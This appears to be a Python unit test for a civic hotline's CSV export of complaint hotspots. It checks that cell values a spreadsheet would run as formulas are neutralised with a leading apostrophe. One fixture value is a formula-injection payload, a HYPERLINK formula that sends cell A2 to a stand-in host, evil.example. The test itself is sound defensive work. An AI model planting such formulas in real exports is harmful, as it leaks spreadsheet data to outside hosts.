"""`hotline hotspots --format csv`: a place or description a citizen wrote that a spreadsheet would
read as a formula is neutralised (OWASP), the figures Hotline computes are left as they are."""

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace

from hotline.analytics.hotspots import CSV_COLUMNS, as_csv


def test_text_that_would_be_a_formula_is_neutralised() -> None:
    spot = SimpleNamespace(
        heat=3.5,
        first_time=datetime(2025, 6, 10, 2, tzinfo=UTC),
        last_time=datetime(2025, 6, 12, 2, tzinfo=UTC),
        place='=HYPERLINK("http://evil.example/?"&A2,"点击")',
        description="-1层车库积水",
        n_appeals=4,
        external_ids=["@wx-1", "wx-2"],
    )
    header, row = list(csv.reader(io.StringIO(as_csv([spot]))))
    assert tuple(header) == CSV_COLUMNS
    assert row == [
        "1",
        "3.50",
        "2025-06-10 10:00:00",
        "2025-06-12 10:00:00",
        '\'=HYPERLINK("http://evil.example/?"&A2,"点击")',
        "'-1层车库积水",
        "4",
        "'@wx-1 wx-2",
    ]
